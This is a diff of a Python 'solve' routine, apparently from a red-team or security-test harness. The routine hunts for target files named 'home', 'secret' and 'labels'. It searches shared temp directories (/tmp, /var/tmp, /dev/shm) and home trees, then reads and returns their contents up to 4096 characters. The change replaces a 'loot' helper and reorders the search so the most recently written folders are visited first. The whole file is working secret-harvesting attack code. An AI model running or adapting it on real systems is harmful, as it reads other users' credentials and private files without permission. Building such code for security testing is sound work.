@@ -2,22 +2,30 @@
 
 import os
 
-from inside import TARGETS, loot
+from inside import TARGETS, read
 
 AGAINST = ("files",)
 
 
 def solve(instance, ctx):
+    text = ""
+    for path in found():
+        text += read(path) or ""
+        if len(text) >= 4096:
+            break
+    return text[:4096]
+
+
+def found():
     wanted = {os.path.basename(path) for path in (TARGETS["home"], TARGETS["secret"], *TARGETS["labels"])}
-    tops = ["/tmp", "/var/tmp", "/dev/shm", os.path.dirname(os.path.dirname(TARGETS["home"])), *TARGETS["places"]]
-    found = []
+    # The widest last: what other programs keep there may take longer to walk over than an attack has.
+    tops = [os.path.dirname(os.path.dirname(TARGETS["home"])), *TARGETS["places"], "/dev/shm", "/var/tmp", "/tmp"]
     for top in tops:
         for folder, folders, names in os.walk(top):
-            folders[:] = folders if folder.count("/") < top.count("/") + 3 else []
-            found += [os.path.join(folder, name) for name in names if name in wanted]
-    goals = {TARGETS["home"], TARGETS["secret"], *TARGETS["labels"]}
-    found.sort(key=lambda path: (path in goals, written(path)), reverse=True)  # other runs have files of these names
-    return "".join(loot(found))[:4096]
+            folders[:] = sorted(folders, key=lambda name: written(os.path.join(folder, name)), reverse=True)
+            if folder.count("/") >= top.count("/") + 3:
+                folders.clear()
+            yield from (os.path.join(folder, name) for name in names if name in wanted)
 
 
 def written(path):
